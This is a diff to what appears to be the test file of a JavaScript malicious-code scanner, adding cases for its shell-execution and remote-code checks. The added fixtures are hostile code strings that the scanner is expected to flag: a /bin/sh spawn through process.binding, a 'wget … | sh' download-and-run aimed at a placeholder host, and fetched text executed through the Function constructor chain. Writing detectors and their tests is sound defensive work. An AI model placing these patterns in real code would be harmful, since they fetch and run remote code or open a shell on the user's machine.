@@ -61,6 +61,20 @@ testCheck(shellExec, {
     },
     {
       ...code(
+        'process.binding around child_process',
+        "const b = process.binding('spawn_sync'); b.spawn({ file: '/bin/sh', args: ['sh', '-c', cmd] })",
+      ),
+      severity: 'high',
+    },
+    {
+      ...code(
+        'exec through .call',
+        "const cp = require('child_process'); cp.exec.call(cp, 'wget -qO- http://x.invalid/a | sh')",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
         'a detached, silent background process',
         "require('child_process').spawn(process.execPath, ['w.js'], { detached: true, stdio: 'ignore' }).unref()",
       ),
@@ -155,6 +169,13 @@ testCheck(encodedPayload, {
 
 testCheck(remoteCode, {
   flagged: [
+    {
+      ...code(
+        'downloaded text run through the Function constructor chain',
+        "fetch('https://x.invalid/p').then((r) => r.text()).then((t) => ''.constructor.constructor(t)())",
+      ),
+      severity: 'critical',
+    },
     {
       ...code(
         'pastebin body evaluated (eslint-scope 2018)',
